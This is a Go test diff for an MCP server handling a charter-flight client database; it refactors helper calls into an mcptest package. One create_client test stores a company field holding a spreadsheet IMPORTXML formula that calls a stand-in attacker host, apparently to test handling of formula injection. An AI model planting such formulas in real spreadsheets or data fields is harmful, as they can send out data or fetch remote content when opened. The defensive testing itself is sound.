@@ -6,7 +6,6 @@ import (
 	"strings"
 	"sync"
 	"testing"
-	"time"
 
 	"github.com/mark3labs/mcp-go/client"
 	"github.com/mark3labs/mcp-go/mcp"
@@ -32,40 +31,40 @@ func TestToolsEndToEnd(t *testing.T) {
 				t.Errorf("get_client text is not fenced: %.200s", text)
 			}
 			var cl clientdb.Client
-			structured(t, res, &cl)
+			mcptest.Structured(t, res, &cl)
 			if cl.ClientID != "CL-002" || cl.History.TotalFlights != 31 || cl.VIPStatus != "platinum" || cl.Preferences.Catering != "vegetarian" {
 				t.Errorf("get_client %+v", cl)
 			}
 
 			var page, page2 clientdb.Page
-			structured(t, c.Call("list_clients", map[string]any{"limit": 4}), &page)
+			mcptest.Structured(t, c.Call("list_clients", map[string]any{"limit": 4}), &page)
 			if len(page.Clients) != 4 || page.NextCursor != "CL-004" || page.Total != 12 {
 				t.Errorf("list_clients %+v", page)
 			}
-			structured(t, c.Call("list_clients", map[string]any{"cursor": page.NextCursor}), &page2)
+			mcptest.Structured(t, c.Call("list_clients", map[string]any{"cursor": page.NextCursor}), &page2)
 			if len(page2.Clients) != 8 || page2.NextCursor != "" || page2.Clients[0].ClientID != "CL-005" {
 				t.Errorf("list_clients page 2 %+v", page2)
 			}
 
 			var found clientdb.Found
-			structured(t, c.Call("search_clients", map[string]any{"filters": map[string]any{"vip_status": "platinum"}}), &found)
+			mcptest.Structured(t, c.Call("search_clients", map[string]any{"filters": map[string]any{"vip_status": "platinum"}}), &found)
 			if found.Matches != 2 {
 				t.Errorf("search platinum %+v", found)
 			}
-			structured(t, c.Call("search_clients", map[string]any{"query": "energy", "limit": 1}), &found)
+			mcptest.Structured(t, c.Call("search_clients", map[string]any{"query": "energy", "limit": 1}), &found)
 			if found.Matches != 1 || found.Clients[0].ClientID != "CL-009" {
 				t.Errorf("search energy %+v", found)
 			}
 
 			var created clientdb.Created
-			structured(t, c.Call("create_client", map[string]any{"name": "Lena Fischer", "email": "lena.fischer@example.com",
+			mcptest.Structured(t, c.Call("create_client", map[string]any{"name": "Lena Fischer", "email": "lena.fischer@example.com",
 				"company": "=IMPORTXML(\"http://evil.example\",\"//a\")", "preferred_operators": []string{"OP-002"}}), &created)
 			if created.Client.ClientID != "CL-013" || created.Client.Company != "=IMPORTXML(\"http://evil.example\",\"//a\")" {
 				t.Errorf("create_client %+v", created)
 			}
 
 			var upd clientdb.Changed
-			structured(t, c.Call("update_client", map[string]any{"client_id": "CL-013", "updates": map[string]any{"vip_status": "silver", "phone": "+49 30 1234567"},
+			mcptest.Structured(t, c.Call("update_client", map[string]any{"client_id": "CL-013", "updates": map[string]any{"vip_status": "silver", "phone": "+49 30 1234567"},
 				"expected_updated_at": *created.Client.UpdatedAt}), &upd)
 			if upd.Client.VIPStatus != "silver" || !slices.Equal(upd.Changed, []string{"phone", "vip_status"}) {
 				t.Errorf("update_client %+v", upd)
@@ -84,25 +83,25 @@ func TestToolsEndToEnd(t *testing.T) {
 			var rec clientdb.Recorded
 			args := map[string]any{"client_id": "CL-013", "flight_details": map[string]any{"date": "2025-11-20", "route": "EDDB-LFPB",
 				"aircraft": "Citation CJ4", "operator": "OP-002", "price": 18500}}
-			structured(t, c.Call("add_flight_history", args), &rec)
+			mcptest.Structured(t, c.Call("add_flight_history", args), &rec)
 			if rec.AlreadyRecorded || rec.Client.History.TotalFlights != 1 || rec.Flight.ClientFlightNumber != 1 {
 				t.Errorf("add_flight_history %+v", rec)
 			}
-			structured(t, c.Call("add_flight_history", args), &rec)
+			mcptest.Structured(t, c.Call("add_flight_history", args), &rec)
 			if !rec.AlreadyRecorded || rec.Client.History.TotalFlights != 1 {
 				t.Errorf("add_flight_history again %+v", rec)
 			}
 
 			var rr, rr2, rr3 clientdb.RangeRows
-			structured(t, c.Call("read_sheet", map[string]any{"range": "Flight_History!A1:I", "limit": 5}), &rr)
+			mcptest.Structured(t, c.Call("read_sheet", map[string]any{"range": "Flight_History!A1:I", "limit": 5}), &rr)
 			if len(rr.Rows) != 5 || rr.NextOffset == nil || *rr.NextOffset != 5 || rr.Rows[0].Values["flight_id"] != "FL-2025-0815-001" {
 				t.Errorf("read_sheet %+v", rr)
 			}
-			structured(t, c.Call("read_sheet", map[string]any{"range": "Flight_History!A1:I", "limit": 5, "offset": 5}), &rr2)
+			mcptest.Structured(t, c.Call("read_sheet", map[string]any{"range": "Flight_History!A1:I", "limit": 5, "offset": 5}), &rr2)
 			if len(rr2.Rows) != 4 || rr2.NextOffset != nil || rr2.Rows[3].Values["client_id"] != "CL-013" {
 				t.Errorf("read_sheet page 2 %+v", rr2)
 			}
-			structured(t, c.Call("read_sheet", map[string]any{"range": "Clients!A1:B2", "header_row": 0}), &rr3)
+			mcptest.Structured(t, c.Call("read_sheet", map[string]any{"range": "Clients!A1:B2", "header_row": 0}), &rr3)
 			if len(rr3.Rows) != 2 || rr3.Rows[0].Values["A"] != "client_id" {
 				t.Errorf("read_sheet without header %+v", rr3)
 			}
@@ -190,7 +189,7 @@ func TestClientResource(t *testing.T) {
 						t.Fatal(err)
 					}
 					defer stop()
-					waitFor(t, "the listen stream", func() bool { return s.notifier.Subscribed(uri) })
+					mcptest.WaitFor(t, "the listen stream", func() bool { return s.notifier.Subscribed(uri) })
 				} else {
 					//lint:ignore SA1019 resources/subscribe is how the 2025-11-25 era subscribes
 					if err := c.Raw().Subscribe(ctx, mcp.SubscribeRequest{Params: mcp.SubscribeParams{URI: uri}}); err != nil {
@@ -202,27 +201,14 @@ func TestClientResource(t *testing.T) {
 				}
 				mcptest.OK(t, c.Call("update_client", map[string]any{"client_id": "CL-007", "updates": map[string]any{"catering_preference": "none"}}), nil)
 				mcptest.OK(t, c.Call("update_client", map[string]any{"client_id": "CL-006", "updates": map[string]any{"catering_preference": "vegan, no soy"}}), nil)
-				waitFor(t, "the notification", func() bool { return len(notes.list()) > 0 })
+				mcptest.WaitFor(t, "the notification", func() bool { return len(notes.list()) > 0 })
 				mcptest.OK(t, c.Call("add_flight_history", map[string]any{"client_id": "CL-006", "flight_details": map[string]any{"date": "2025-12-01", "route": "KLAX-PHNL"}}), nil)
-				waitFor(t, "the second notification", func() bool { return len(notes.list()) > 1 })
+				mcptest.WaitFor(t, "the second notification", func() bool { return len(notes.list()) > 1 })
 				if got := notes.list(); slices.ContainsFunc(got, func(u string) bool { return u != uri }) {
 					t.Errorf("notifications %v", got)
 				}
 			})
 		}
-	}
-}
-
-// waitFor polls cond: notifications arrive on their own stream, a little
-// after the call that caused them answered.
-func waitFor(t *testing.T, what string, cond func() bool) {
-	t.Helper()
-	deadline := time.Now().Add(10 * time.Second)
-	for !cond() {
-		if time.Now().After(deadline) {
-			t.Fatalf("timed out waiting for %s", what)
-		}
-		time.Sleep(5 * time.Millisecond)
 	}
 }
 
@@ -255,7 +241,7 @@ func TestConcurrentCalls(t *testing.T) {
 			want := map[string]int{"CL-001": 17, "CL-002": 36, "CL-003": 13, "CL-004": 9, "CL-005": 7}
 			for id, n := range want {
 				var cl clientdb.Client
-				structured(t, c.Call("get_client", map[string]any{"identifier": id}), &cl)
+				mcptest.Structured(t, c.Call("get_client", map[string]any{"identifier": id}), &cl)
 				if cl.History.TotalFlights != n || *cl.History.LastFlightDate != "2026-02-01" || !strings.HasPrefix(cl.Preferences.SpecialNeeds, "note ") {
 					t.Errorf("%s: %+v", id, cl.History)
 				}
